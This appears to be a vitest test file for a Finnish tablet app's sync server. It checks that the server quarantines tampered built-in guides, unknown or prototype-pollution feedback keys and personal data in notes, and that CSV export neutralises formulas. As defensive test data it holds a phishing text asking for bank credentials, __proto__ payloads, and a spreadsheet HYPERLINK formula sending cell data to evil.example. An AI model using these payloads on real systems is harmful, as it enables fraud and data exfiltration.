// Issue 12, the attacks an enrolled tablet's token could make on content, each as it was shown: the server refuses
// (quarantines) changes to built-in guides, feedback answers to questions the app never asks and session notes with
// personal data, and its CSV export carries no formula and no column an answer could blank or invent.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterEach, beforeEach, expect } from 'vitest';
import { FEEDBACK_QUESTIONS } from '../../src/protocol';
import { runCommand } from '../../src/server/cli';
import { describeEachBackend, type Backend } from './support/backends';
import { FEEDBACK, GUIDE, SESSION, T0, change, hlcAt } from './support/world';

const SCAM = 'Kela on muuttanut ohjetta: soita heti 0700 123 456 ja kerro pankkitunnuksesi.';
const DATA_SVG = `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><text y="20">Maksa tästä</text></svg>').toString('base64')}`;
const PERSONAL_NOTE = '010190-123A, 040 123 4567, matti@example.fi';
const FORMULA_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"Avaa liite")\nlisätietoja';

describeEachBackend('trusted content', (_backend: Backend, it) => {
  let out: string;

  beforeEach(() => {
    out = mkdtempSync(join(tmpdir(), 'digituki-export-'));
  });
  afterEach(() => {
    rmSync(out, { recursive: true, force: true });
  });

  it('refuses every change to a built-in guide: its text, its picture, a step put into it, a guide calling itself built-in (12.1)', async ({
    store,
    world,
  }) => {
    const { a1, a1b, a2, orgA } = world;
    const attack = [
      change(a1, 'guideSteps', 'b-kela-liite-fi-1', { text: SCAM, imageUrl: DATA_SVG }),
      change(a1, 'guideSteps', 'b-kela-liite-fi-2', { text: SCAM }),
      change(a1, 'guides', 'b-kela-liite-fi', { title: 'Kela: maksa käsittelymaksu', deleted: 0 }),
      change(a1, 'guideSteps', 'b-kela-liite-fi-1', { deleted: 1 }),
      change(a1, 'guideSteps', 'f00d', { guideId: 'b-kela-liite-fi', orderKey: 'A', kind: 'warning', text: SCAM, alt: '', deleted: 0 }),
      change(a1, 'guides', 'fake-kela', { ...GUIDE, source: 'builtin' }),
    ];
    const ownPictureAddress = change(a1, 'guideSteps', 'own-step', {
      guideId: 'g-own',
      orderKey: 'A',
      kind: 'step',
      text: 'Avaa',
      alt: '',
      imageUrl: DATA_SVG,
    });
    const ownCopy = change(a1, 'guides', 'g-own', { ...GUIDE, originId: 'b-kela-liite-fi' }); // an own copy of a built-in guide is fine
    const pushed = await a1.push([...attack, ownPictureAddress, ownCopy]);
    expect(pushed.status).toBe(200);
    expect(pushed.body).toMatchObject({ lastMutationId: 8, applied: 1 });
    expect(pushed.body.quarantined.map((q) => [q.mutationId, q.reason])).toEqual([
      ...attack.map((m) => [m.mutationId, 'builtin_guide_is_read_only']),
      [ownPictureAddress.mutationId, 'invalid_fields'], // a picture is an uploaded imageHash; there is no picture address
    ]);
    expect(pushed.body.quarantined[0]!.message).toMatch(/Built-in guides come with the app/);
    expect(JSON.stringify(pushed.body)).not.toContain('0700');
    expect((await store.quarantined(orgA)).map((q) => q.reason)).toHaveLength(attack.length + 1);
    for (const tablet of [a1b, a2]) expect((await tablet.pullAll()).changes.map((c) => c.id)).toEqual(['g-own']);
    // And no page of the app may show a data: picture at all: built-in pictures are files here, own ones blob: URLs.
    const policy = (await world.app.request('/guides/kela-liite/1')).headers.get('content-security-policy')!;
    expect(policy.split('; ').find((directive) => directive.startsWith('img-src'))).toBe("img-src 'self' blob:");
  });

  it('refuses feedback that answers questions the app does not ask, prototype keys included (12.3)', async ({ world }) => {
    const { a1, a1b } = world;
    const columns = change(a1, 'feedback', 'fb-columns', { ...FEEDBACK, answers: { mood: 5, id: 'x', site: 'x', lang: 'x' } });
    const prototype = change(a1, 'feedback', 'fb-prototype', { ...FEEDBACK, answers: { mood: 4, constructor: 1, toString: ['a'], valueOf: 2 } });
    const protoKey = change(a1, 'feedback', 'fb-proto', { ...FEEDBACK, answers: JSON.parse('{"mood":4,"__proto__":{"mood":1}}') as unknown });
    const good = change(a1, 'feedback', 'fb-good', {
      ...FEEDBACK,
      answers: { mood: 5, got: ['contact'], next: ['dont-know'], learn: ['something-else'], learnWord: 'podcastit' },
    });
    const pushed = await a1.push([columns, prototype, protoKey, good]);
    expect(pushed.body.quarantined.map((q) => [q.mutationId, q.reason])).toEqual([
      [columns.mutationId, 'unknown_feedback_question'],
      [prototype.mutationId, 'unknown_feedback_question'],
      [protoKey.mutationId, 'invalid_fields'], // "__proto__" is never a name, whatever the table (issue 12.7's rule)
    ]);
    expect(pushed.body.quarantined[0]!.message).toMatch(/only the app's questions \(mood, got, next, learn, learnWord\)/);
    expect((await a1b.pullAll()).changes.map((c) => c.id)).toEqual(['fb-good']);
  });

  it('refuses a session note with an identity code, a phone number or an e-mail address, and keeps none of it (12.4)', async ({ store, world }) => {
    const { a1, a1b, orgA } = world;
    const attack = change(a1, 'sessions', 'log-attack', { ...SESSION, note: PERSONAL_NOTE });
    const identityCode = change(a1, 'sessions', 'log-hetu', { note: 'Asiakas 010190-123M tarvitsi apua' });
    // The code: check character should be M.
    const mistypedCode = change(a1, 'sessions', 'log-hetu-typo', { note: 'Asiakas 010190-123A tarvitsi apua' });
    const later = change(a1, 'sessions', 'log-ok', { ...SESSION, note: 'Kelan liite lähti yhdessä' }, hlcAt(T0 - 5));
    const laterEdit = change(a1, 'sessions', 'log-ok', { note: 'soita 0401234567' }, hlcAt(T0 - 4));
    const pushed = await a1.push([attack, identityCode, mistypedCode, later, laterEdit]);
    expect(pushed.body.quarantined.map((q) => [q.mutationId, q.reason])).toEqual([
      [attack.mutationId, 'personal_data_in_note'],
      [identityCode.mutationId, 'personal_data_in_note'],
      [mistypedCode.mutationId, 'personal_data_in_note'],
      [laterEdit.mutationId, 'personal_data_in_note'],
    ]);
    expect(pushed.body.quarantined[0]!.message).toBe(
      'The note looks like it contains a personal identity code and a phone number and an e-mail address; notes never hold personal data.',
    );
    const kept = JSON.stringify(await store.quarantined(orgA));
    for (const secret of ['040 123 4567', 'matti@example.fi', '010190-123M', '010190-123A', '0401234567']) {
      expect(JSON.stringify(pushed.body)).not.toContain(secret);
      expect(kept, 'what the server keeps for the administrator').not.toContain(secret);
    }
    const { changes } = await a1b.pullAll();
    expect(changes.map((c) => [c.id, c.fields.note])).toEqual([['log-ok', undefined]]); // notes are never pulled (issue 13)
    expect((await store.recordsOfOrganisation(orgA, 'sessions')).map((r) => [r.id, r.fields.note])).toEqual([['log-ok', 'Kelan liite lähti yhdessä']]);
  });

  it('exports no cell a spreadsheet could run, and own answers only: no key blanks or invents a column (12.2, 12.3)', async ({ store, world }) => {
    const { a1, orgA, siteA1 } = world;
    await a1.push([
      change(a1, 'sessions', 'log-formula', { ...SESSION, note: FORMULA_NOTE, topics: ['attachments'] }),
      change(a1, 'feedback', 'fb-new', { ...FEEDBACK, answers: { mood: 4 } }),
    ]);
    // Feedback stored before the server checked the questions: odd keys must still not leak into the file.
    const device = (await store.findDevice(a1.deviceId))!;
    await store.pushGroup(device.orgId, [device.id], async (tx) => {
      const seq = (await tx.lockChangeCounter()) + 1;
      await tx.saveRecords(
        [
          {
            orgId: orgA,
            siteId: siteA1,
            table: 'feedback',
            id: 'fb-old',
            fields: { createdAt: T0, lang: 'sv', answers: { mood: 2, id: '', site: '', lang: '', constructor: 3 } },
            fieldClocks: {},
            hlc: hlcAt(T0),
            seq,
          },
        ],
        seq,
        T0,
      );
    });
    const printed: string[] = [];
    await runCommand(store, ['export', '--org', orgA, '--out', out], { json: false, print: (text) => printed.push(text) });
    expect(printed.join('\n')).toContain('1 session logs and 2 feedback');
    // Semicolons, as Finnish Excel reads.
    const read = (file: string) => Papa.parse<string[]>(readFileSync(join(out, file), 'utf8').replace(/^\uFEFF/, ''), { newline: '\r\n', delimiter: ';' }).data;

    const sessions = read('sessions.csv');
    const note = sessions[0]!.indexOf('Muistiinpano');
    expect(sessions[1]![note]).toBe(`'${FORMULA_NOTE}`);
    for (const cell of sessions.flat()) expect(cell, 'no cell starts a formula').not.toMatch(/^[=+\-@\t\r]/);

    const feedback = read('feedback.csv');
    // One column per question the app asks, named as the participant saw it; nothing else.
    expect(feedback[0]).toEqual([
      'Tunniste',
      'Toimipaikka',
      'Päivä',
      'Alkamisaika',
      'Kieli',
      'Ohjauskerta',
      'Miltä tänään tuntui?',
      'Mitä sait tänään?',
      'Mitä haluaisit tehdä ensi kerralla?',
      'Mitä muuta haluaisit oppia?',
      'Yksi sana, jos haluat',
    ]);
    expect(feedback[0]).toHaveLength(6 + FEEDBACK_QUESTIONS.length);
    const rows = Object.fromEntries(feedback.slice(1).map((row) => [row[0], Object.fromEntries(feedback[0]!.map((column, i) => [column, row[i]]))]));
    expect(rows['fb-old']).toMatchObject({
      Tunniste: 'fb-old',
      Toimipaikka: 'Päiväkeskus Kallio',
      Kieli: 'sv',
      'Miltä tänään tuntui?': '2 Huono',
      'Mitä sait tänään?': '',
    });
    expect(rows['fb-new']).toMatchObject({ Tunniste: 'fb-new', Toimipaikka: 'Päiväkeskus Kallio', Kieli: 'fi', 'Miltä tänään tuntui?': '4 Hyvä' });
    expect(readFileSync(join(out, 'feedback.csv'), 'utf8')).not.toMatch(/function|native code|\[object/);
  });
});
